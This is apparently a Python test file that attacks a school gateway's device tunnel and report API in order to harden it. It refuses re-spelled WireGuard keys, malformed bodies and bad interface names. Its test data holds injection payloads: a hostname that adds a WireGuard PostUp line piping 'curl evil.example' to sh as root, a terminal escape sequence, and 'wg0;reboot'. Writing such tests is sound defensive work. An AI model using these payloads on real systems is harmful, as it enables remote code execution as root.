"""Issue 17's red team, in process: what a device holding its own token (a pupil who is an
administrator on a badly managed laptop) can send to POST /api/v1/tunnel and the report API
to take another device's tunnel, break the gateway's peer sync or reach the IT provider's
terminal. Real stores (SQLite and PostgreSQL)."""

from __future__ import annotations

import base64
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from agent.tunnel.config import new_private_key, public_key, valid_key
from proxy_addons.core.policy.load import PolicyError, load_policy
from proxy_addons.core.policy.model import Tunnel
from proxy_addons.devices import enrolment, tunnels
from proxy_addons.store import Store
from proxy_addons.web.app import create_device_api
from proxy_addons.workflow import audit
from tests.devices.test_device_api import SECRET, T0, Clock, report
from tests.devices.test_device_tunnels import (
    TUNNEL,
    enrolled,
    new_key,
    said,
    store,
    tunnel_policy,
)
from tests.devices.test_device_watch import watched_policy
from tests.pg import db_url  # noqa: F401  (a fixture)

__all__ = ["db_url", "store"]  # fixtures, used by name

_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def other_spellings(key: str) -> list[str]:
    """The same 32 bytes in base64 with the last character's two spare bits set."""
    last = _B64.index(key[42])
    return [key[:42] + _B64[last ^ bits] + "=" for bits in (1, 2, 3)]


def _api(store: Store, tmp_path: Path) -> tuple[Any, str]:
    """The device API with a tunnel offered and the gateway's key written; and that key."""
    policy = tunnel_policy(tmp_path)
    var = tmp_path / "var"
    _, public = tunnels.key_files(policy.devices.tunnel, var)  # type: ignore[arg-type]
    public.parent.mkdir(parents=True)
    gateway_key = new_key()
    public.write_text(gateway_key + "\n")
    return create_device_api(store, lambda: policy, Clock(), var=var).test_client(), gateway_key


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_a_key_has_one_spelling_the_one_wg_accepts() -> None:
    key = new_key()
    for spelling in other_spellings(key):
        assert base64.b64decode(spelling) == base64.b64decode(key)  # Python reads it the same
        assert not valid_key(spelling)
    assert valid_key(key)
    wg = shutil.which("wg")
    if wg is None:
        pytest.skip("wg (wireguard-tools) is not installed: its side is not checked")
    private = new_private_key()
    for spelling in other_spellings(private):
        refused = subprocess.run([wg, "pubkey"], input=spelling, capture_output=True, text=True)
        assert refused.returncode != 0 and "format" in refused.stderr
    done = subprocess.run([wg, "pubkey"], input=private, capture_output=True, text=True)
    assert done.returncode == 0 and done.stdout.strip() == public_key(private)


def test_another_spelling_of_another_devices_key_is_refused(store: Store, tmp_path: Path) -> None:
    api, _ = _api(store, tmp_path)
    (_, token_a), (b, token_b) = enrolled(store, "a"), enrolled(store, "b")
    key = new_key()
    assert (
        api.post("/api/v1/tunnel", json={"public_key": key}, headers=_bearer(token_a)).status_code
        == 200
    )
    for spelling in other_spellings(key):
        answer = api.post("/api/v1/tunnel", json={"public_key": spelling}, headers=_bearer(token_b))
        assert answer.status_code == 400 and said(answer)["field"] == "public_key"
    # Nor for the device's own key: `wg set` would refuse it and stop every later peer.
    own = new_key()
    for spelling in other_spellings(own):
        answer = api.post("/api/v1/tunnel", json={"public_key": spelling}, headers=_bearer(token_b))
        assert answer.status_code == 400
    assert tunnels.binding_of(store, b) is None
    assert [x.public_key for x in tunnels.bindings(store)] == [key]


def test_the_gateways_own_key_is_nobodys(store: Store, tmp_path: Path) -> None:
    api, gateway_key = _api(store, tmp_path)
    device_id, token = enrolled(store)
    answer = api.post("/api/v1/tunnel", json={"public_key": gateway_key}, headers=_bearer(token))
    assert answer.status_code == 400 and "gateway's own" in said(answer)["error"]
    assert tunnels.binding_of(store, device_id) is None


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b'"key"',
        b"{",
        b'{"public_key": null}',
        b'{"public_key": 5}',
        b'{"public_key": ["AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]}',
        b'{"public_key": {"$ne": ""}}',
        b'{"public_key": "' + b"A" * 43 + b'=\\u0000"}',
        b'{"public_key": "' + b"A" * 4000 + b'"}',
        b'{"public_key": " ' + b"A" * 43 + b'="}',
        b'{"public_key": "' + b"A" * 43 + b'=\\n"}',
        b'{"public_key": "' + b"A" * 42 + b'=="}',
        b'{"public_key": "' + b"\xc3\xa9" * 22 + b'"}',
        b'{"public_key": NaN}',
        b'{"public_key": "' + b"A" * 10_000 + b'"}',
    ],
)
def test_odd_bodies_bind_nothing(store: Store, tmp_path: Path, body: bytes) -> None:
    api, _ = _api(store, tmp_path)
    device_id, token = enrolled(store)
    answer = api.post(
        "/api/v1/tunnel", data=body, headers=_bearer(token), content_type="application/json"
    )
    assert answer.status_code in (400, 413), answer.json
    assert said(answer)["error"]
    assert tunnels.binding_of(store, device_id) is None


def test_rotating_keys_takes_no_new_address_and_is_bounded(store: Store, tmp_path: Path) -> None:
    """A lying agent rotating its key in a loop: one address, and at most 10 new keys an
    hour (each is audited and changes the gateway's peers); a revoked token gets nothing."""
    api, _ = _api(store, tmp_path)
    device_id, token = enrolled(store)
    first = api.post("/api/v1/tunnel", json={"public_key": new_key()}, headers=_bearer(token))
    for _ in range(10):
        again = api.post("/api/v1/tunnel", json={"public_key": new_key()}, headers=_bearer(token))
        assert said(again)["tunnel"]["address"] == said(first)["tunnel"]["address"]
    kept = tunnels.bindings(store)
    answer = api.post("/api/v1/tunnel", json={"public_key": new_key()}, headers=_bearer(token))
    assert answer.status_code == 429 and tunnels.bindings(store) == kept
    # The key it holds still gets its config (a refresh is no new key).
    same = api.post("/api/v1/tunnel", json={"public_key": kept[0].public_key},
                    headers=_bearer(token))  # fmt: skip
    assert same.status_code == 200
    bound = [r for r in audit.records(store) if r.action == "device.tunnel_bound"]
    assert len(bound) == 11
    enrolment.revoke(store, device_id, "it.support", "lost", T0)
    answer = api.post("/api/v1/tunnel", json={"public_key": new_key()}, headers=_bearer(token))
    assert answer.status_code == 401 and tunnels.bindings(store) == []


def test_a_report_may_not_put_control_characters_in_the_devices_name(
    store: Store, tmp_path: Path
) -> None:
    """The name goes into `schoolgate tunnel issue`'s WireGuard config (a newline would add
    a PostUp line run as root) and onto the IT provider's terminal (an escape rewrites it)."""
    api, _ = _api(store, tmp_path)
    device_id, token = enrolled(store, "lab-pc-07")
    for name in ("x)\n[Interface]\nPostUp = curl evil.example | sh\n#", "pc\x1b[2K\r", "a\tb"):
        answer = api.post(
            "/api/v1/report", json=report(device_id, T0, hostname=name), headers=_bearer(token)
        )
        assert answer.status_code == 400 and said(answer)["field"] == "hostname"
    with pytest.raises(enrolment.EnrolError, match="one line"):
        enrolment.enrol(store, SECRET, SECRET.encode(), "pc\n[Peer]", T0)
    assert enrolment.enrol(store, SECRET, SECRET.encode(), "Salle de classe é", T0)


def _pool(tmp_path: Path, pool: str) -> Tunnel:
    path = watched_policy(tmp_path)
    path.write_text(path.read_text() + TUNNEL.replace("10.123.0.0/29", pool))
    tunnel = load_policy(path).devices.tunnel
    assert tunnel is not None
    return tunnel


def test_after_the_pool_changes_no_device_keeps_the_gateways_address(
    store: Store, tmp_path: Path
) -> None:
    """A device keeps its address across key rotations while it is in the pool; a pool
    edited under it can make that address the gateway's own, or the network's."""
    wide = _pool(tmp_path / "wide", "10.123.0.0/28")
    ids = [enrolled(store, f"pc-{n}")[0] for n in range(8)]
    held = [tunnels.bind(store, wide, d, new_key(), T0, "device").address for d in ids]
    assert held[-2:] == ["10.123.0.8", "10.123.0.9"]
    narrow = _pool(tmp_path / "narrow", "10.123.0.8/29")
    assert str(narrow.gateway_address) == "10.123.0.9"
    on_network = tunnels.bind(store, narrow, ids[-2], new_key(), T0, "device")
    on_gateway = tunnels.bind(store, narrow, ids[-1], new_key(), T0, "device")
    assert (on_network.address, on_gateway.address) == ("10.123.0.10", "10.123.0.11")


@pytest.mark.parametrize("name", ["-f", "--foreground", "..", ".x", "wg0;reboot", "a b", "a" * 16])
def test_an_interface_name_no_command_would_read_as_an_option(tmp_path: Path, name: str) -> None:
    """ops/wireguard runs `wireguard-go <name>`, `ip link add dev <name>`, `wg set <name>`
    as argv lists (no shell), but `wireguard-go -f` is its foreground flag."""
    path = watched_policy(tmp_path)
    path.write_text(path.read_text() + TUNNEL + f"    interface: '{name}'\n")
    with pytest.raises(PolicyError, match="interface should be"):
        load_policy(path)
